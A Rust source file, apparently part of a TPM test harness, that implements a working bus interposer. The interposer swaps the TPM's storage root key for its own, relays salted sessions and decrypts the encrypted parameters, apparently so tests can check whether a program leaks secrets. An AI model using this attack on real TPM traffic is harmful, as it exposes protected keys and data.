//! An attacker on the wire who presents a key of its own as the TPM's storage root key, and relays everything: it plays
//! the TPM for the program and the program for the TPM, and decrypts what either has encrypted for the other.
//!
//! After TPM 2.0 Library part 1: section 19.6 (sessions), 21 (encryption of parameters), 11.4.10 (key derivation).

use crate::{
    Interposer,
    interposer::Action,
    session::{hmac, kdf_a, salt},
    wire::{Command, Response, cc, u16_at, u32_at},
};
use cfb_mode::{Decryptor, Encryptor, cipher::KeyIvInit};
use p256::{
    FieldBytes, NonZeroScalar, PublicKey, Sec1Point,
    elliptic_curve::sec1::{FromSec1Point, ToSec1Point},
};
use sha2::{Digest as _, Sha256};
use std::{
    collections::BTreeMap,
    fs::File,
    io::Read,
    sync::{Arc, Mutex},
};

/// Attributes of a session (`TPMA_SESSION`): the first parameter of the command, of the answer, is encrypted.
const DECRYPT: u8 = 1 << 5;
const ENCRYPT: u8 = 1 << 6;

/// What such an interposer knows.
#[derive(Clone)]
pub struct KeySwap(Arc<Mutex<Relay>>);

impl std::fmt::Debug for KeySwap {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("KeySwap")
    }
}

struct Relay {
    /// The attacker's key.
    key: NonZeroScalar,
    /// The TPM's.
    genuine: Option<PublicKey>,
    /// Names of NV indices.
    names: BTreeMap<u32, Vec<u8>>,
    session: Option<Session>,
    /// What was encrypted, in clear.
    seen: Vec<Vec<u8>>,
}

struct Session {
    handle: u32,
    salts: [[u8; 32]; 2],
    /// Keys of the session, with the program and with the TPM.
    keys: [[u8; 32]; 2],
    caller: Vec<u8>,
    tpm: Vec<u8>,
    /// Whether it comes with the command that is being carried out.
    used: bool,
    attributes: u8,
}

impl KeySwap {
    /// Takes its place on a wire.
    #[must_use]
    pub fn on(wire: &Interposer) -> Self {
        let relay = Relay { key: scalar(), genuine: None, names: BTreeMap::new(), session: None, seen: Vec::new() };
        let swap = Self(Arc::new(Mutex::new(relay)));
        let (commands, responses) = (swap.clone(), swap.clone());
        wire.on_command(move |command| commands.0.lock().expect("whole").command(command));
        wire.on_response(move |command, response| responses.0.lock().expect("whole").response(command, &response));
        swap
    }

    /// Whether these bytes were read, encrypted as they were.
    #[must_use]
    pub fn has_read(&self, bytes: &[u8]) -> bool {
        let seen = &self.0.lock().expect("whole").seen;
        seen.iter().any(|seen| seen.windows(bytes.len()).any(|window| window == bytes))
    }

    /// How many parameters it has decrypted.
    #[must_use]
    pub fn count(&self) -> usize {
        self.0.lock().expect("whole").seen.len()
    }
}

impl Relay {
    fn command(&mut self, command: &Command) -> Action {
        match (command.code(), &mut self.session) {
            (cc::START_AUTH_SESSION, _) => self.start(command),
            (_, Some(_)) if command.has_sessions() => self.relay_command(command),
            _ => Action::Forward,
        }
    }

    /// Salts one session with the program, and another one with the TPM.
    fn start(&mut self, command: &Command) -> Action {
        let Some(genuine) = self.genuine.filter(|_| command.word(0) == 0x8100_0001) else { return Action::Forward };
        let body = command.body();
        let (caller, rest) = sized(&body[8..]);
        let (point, rest) = sized(rest);
        let (x, y) = sized(point);
        let ours = PublicKey::from_secret_scalar(&self.key);
        let from_program = salt(&self.key, &public(x, sized(y).0), x, &coordinates(&ours)[..32]);
        let fresh = scalar();
        let own = coordinates(&PublicKey::from_secret_scalar(&fresh));
        let to_tpm = salt(&fresh, &genuine, &own[..32], &coordinates(&genuine)[..32]);
        let point = [tpm2b(&own[..32]), tpm2b(&own[32..])].concat();
        let body = [&body[..8], &tpm2b(caller), &tpm2b(&point), rest].concat();
        self.session = Some(Session {
            handle: 0,
            salts: [from_program, to_tpm],
            keys: [[0; 32]; 2],
            caller: caller.to_vec(),
            tpm: Vec::new(),
            used: false,
            attributes: 0,
        });
        Action::Replace(message(&command.bytes[..2], &command.bytes[6..10], &body))
    }

    fn relay_command(&mut self, command: &Command) -> Action {
        let Some(session) = &mut self.session else { return Action::Forward };
        let handles = match command.code() {
            cc::NV_READ | cc::NV_WRITE => 2,
            cc::POLICY_NV => 3,
            cc::PCR_EVENT => 1,
            _ => 0,
        };
        let body = command.body();
        let names: Vec<u8> = (0..handles)
            .flat_map(|n| {
                let handle = u32_at(body, n * 4);
                self.names.get(&handle).cloned().unwrap_or_else(|| handle.to_be_bytes().to_vec())
            })
            .collect();
        let (handles, rest) = body.split_at(handles * 4);
        let (area, parameters) = rest[4..].split_at(u32_at(rest, 0) as usize);
        let mut parameters = parameters.to_vec();
        let mut auths = auths(area, true);
        let found = auths.iter_mut().find(|auth| auth.handle == session.handle);
        session.used = found.is_some();
        let Some(auth) = found else { return Action::Forward };
        (session.caller, session.attributes) = (auth.nonce.clone(), auth.attributes);
        if auth.attributes & DECRYPT != 0 {
            self.seen.push(session.recrypt(&mut parameters, [0, 1], [&session.caller, &session.tpm]));
        }
        let digest = Sha256::new_with_prefix(&command.bytes[6..10]).chain_update(names).chain_update(&parameters);
        auth.hmac = session.hmac(1, &digest.finalize(), [&session.caller, &session.tpm]);
        let area: Vec<u8> = auths.iter().flat_map(Auth::bytes).collect();
        let size = u32::try_from(area.len()).expect("small").to_be_bytes();
        let body = [handles, &size, &area, &parameters].concat();
        Action::Replace(message(&command.bytes[..2], &command.bytes[6..10], &body))
    }

    fn response(&mut self, command: &Command, response: &Response) -> Action {
        if !response.ok() {
            return Action::Forward;
        }
        let body = &response.0[10..];
        match command.code() {
            cc::READ_PUBLIC if command.word(0) == 0x8100_0001 => return self.swap(body),
            cc::NV_READ_PUBLIC => {
                let name = sized(sized(body).1).0.to_vec();
                self.names.insert(command.word(0), name);
            }
            cc::START_AUTH_SESSION => {
                if let Some(session) = &mut self.session {
                    (session.handle, session.tpm) = (u32_at(body, 0), sized(&body[4..]).0.to_vec());
                    let nonces = [&session.tpm[..], &session.caller];
                    session.keys = session.salts.map(|salt| kdf_a(&salt, b"ATH\0", nonces));
                }
            }
            _ if command.has_sessions() => return self.relay_response(command, response),
            _ => {}
        }
        Action::Forward
    }

    /// Presents the attacker's key in place of the TPM's.
    fn swap(&mut self, body: &[u8]) -> Action {
        let (area, rest) = sized(body);
        let mut area = area.to_vec();
        let x = area.len() - 68;
        self.genuine = Some(public(&area[x + 2..x + 34], &area[x + 36..]));
        let own = coordinates(&PublicKey::from_secret_scalar(&self.key));
        area[x + 2..x + 34].copy_from_slice(&own[..32]);
        area[x + 36..].copy_from_slice(&own[32..]);
        let name = [&[0x00, 0x0b][..], &Sha256::digest(&area)].concat();
        let qualified = sized(rest).1;
        Action::Reply(Response::with(0x8001, 0, &[&tpm2b(&area), &tpm2b(&name), qualified].concat()).0)
    }

    fn relay_response(&mut self, command: &Command, response: &Response) -> Action {
        let Some(session) = self.session.as_mut().filter(|session| session.used) else { return Action::Forward };
        let body = &response.0[10..];
        let (parameters, area) = body[4..].split_at(u32_at(body, 0) as usize);
        let mut parameters = parameters.to_vec();
        let mut auths = auths(area, false);
        // They come in the order of the command's.
        let Some(auth) = auths.last_mut() else { return Action::Forward };
        session.tpm.clone_from(&auth.nonce);
        if session.attributes & ENCRYPT != 0 {
            self.seen.push(session.recrypt(&mut parameters, [1, 0], [&session.tpm, &session.caller]));
        }
        let digest = Sha256::new_with_prefix(&response.0[6..10]).chain_update(&command.bytes[6..10]);
        session.attributes = auth.attributes;
        auth.hmac = session.hmac(0, &digest.chain_update(&parameters).finalize(), [&session.tpm, &session.caller]);
        let area: Vec<u8> = auths.iter().flat_map(Auth::bytes).collect();
        let body = [&body[..4], &parameters, &area].concat();
        Action::Reply(message(&response.0[..2], &response.0[6..10], &body))
    }
}

impl Session {
    /// Decrypts the first parameter with one key, encrypts it with the other, and returns it in clear.
    fn recrypt(&self, parameters: &mut [u8], [from, to]: [usize; 2], nonces: [&[u8]; 2]) -> Vec<u8> {
        let size = usize::from(u16_at(parameters, 0));
        let first = &mut parameters[2..2 + size];
        let key = |side: usize| kdf_a(&self.keys[side], b"CFB\0", nonces);
        let cipher = |key: [u8; 32]| Decryptor::<aes::Aes128>::new_from_slices(&key[..16], &key[16..]).expect("sizes");
        cipher(key(from)).decrypt(first);
        let clear = first.to_vec();
        let key = key(to);
        Encryptor::<aes::Aes128>::new_from_slices(&key[..16], &key[16..]).expect("sizes").encrypt(first);
        clear
    }

    /// The HMAC of a command, or of a response.
    fn hmac(&self, side: usize, digest: &[u8], nonces: [&[u8]; 2]) -> Vec<u8> {
        hmac(&self.keys[side], &[digest, nonces[0], nonces[1], &[self.attributes]]).to_vec()
    }
}

/// An authorization, of a command with its session's handle, of an answer without.
struct Auth {
    handle: u32,
    of_command: bool,
    nonce: Vec<u8>,
    attributes: u8,
    hmac: Vec<u8>,
}

impl Auth {
    fn bytes(&self) -> Vec<u8> {
        let handle = self.handle.to_be_bytes();
        let handle = if self.of_command { &handle[..] } else { &[] };
        [handle, &tpm2b(&self.nonce), &[self.attributes], &tpm2b(&self.hmac)].concat()
    }
}

fn auths(mut area: &[u8], of_command: bool) -> Vec<Auth> {
    let mut auths = Vec::new();
    while !area.is_empty() {
        let handle = if of_command { u32_at(area, 0) } else { 0 };
        let (nonce, rest) = sized(&area[if of_command { 4 } else { 0 }..]);
        let (hmac, after) = sized(&rest[1..]);
        auths.push(Auth { handle, of_command, nonce: nonce.to_vec(), attributes: rest[0], hmac: hmac.to_vec() });
        area = after;
    }
    auths
}

fn scalar() -> NonZeroScalar {
    loop {
        let mut bytes = FieldBytes::default();
        File::open("/dev/urandom").and_then(|mut random| random.read_exact(&mut bytes)).expect("randomness");
        if let Some(scalar) = NonZeroScalar::from_repr(bytes).into_option() {
            return scalar;
        }
    }
}

fn public(x: &[u8], y: &[u8]) -> PublicKey {
    let field = |bytes: &[u8]| FieldBytes::try_from(bytes).expect("32 bytes");
    let point = Sec1Point::from_affine_coordinates(&field(x), &field(y), false);
    PublicKey::from_sec1_point(&point).into_option().expect("a point of the curve")
}

/// x and y.
fn coordinates(key: &PublicKey) -> Vec<u8> {
    key.to_sec1_point(false).as_bytes()[1..].to_vec()
}

/// What is in a `TPM2B`, and what comes after it.
fn sized(bytes: &[u8]) -> (&[u8], &[u8]) {
    bytes[2..].split_at(usize::from(u16_at(bytes, 0)))
}

fn tpm2b(bytes: &[u8]) -> Vec<u8> {
    [&u16::try_from(bytes.len()).expect("small").to_be_bytes()[..], bytes].concat()
}

/// A command or an answer: tag, size, code, body.
fn message(tag: &[u8], code: &[u8], body: &[u8]) -> Vec<u8> {
    let size = u32::try_from(body.len() + 10).expect("small").to_be_bytes();
    [tag, &size, code, body].concat()
}
